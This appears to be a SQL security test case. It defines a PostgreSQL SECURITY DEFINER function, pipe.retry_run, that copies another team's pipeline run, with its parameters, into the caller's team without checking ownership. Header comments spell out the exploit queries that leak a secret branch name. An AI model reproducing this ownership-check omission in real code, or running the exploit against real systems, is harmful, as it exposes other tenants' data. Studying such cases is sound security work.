-- A run of another team is copied into one's own, where its parameters can be read.
-- about: retry_run, runs
-- as: hf_pipelines_app
-- exploit: SET pipe.team_id = '1001';
-- exploit: SELECT pipe.retry_run('b0000000-0000-4000-8000-000000000001') IS NOT NULL;
-- exploit: SELECT parameters FROM pipe.runs_of('build');
-- shows: Road-secret-branch
-- A failed run is started again with the same parameters, always in the team of the session.
SET ROLE hf_pipelines_owner;
CREATE FUNCTION pipe.retry_run(run uuid) RETURNS uuid
LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
  INSERT INTO pipe_data.runs (team_id, pipeline, parameters)
  SELECT pipe.team(), r.pipeline, r.parameters FROM pipe_data.runs r WHERE r.run_id = run
  RETURNING run_id
$$;
REVOKE EXECUTE ON FUNCTION pipe.retry_run(uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION pipe.retry_run(uuid) TO hf_pipelines_app;
RESET ROLE;
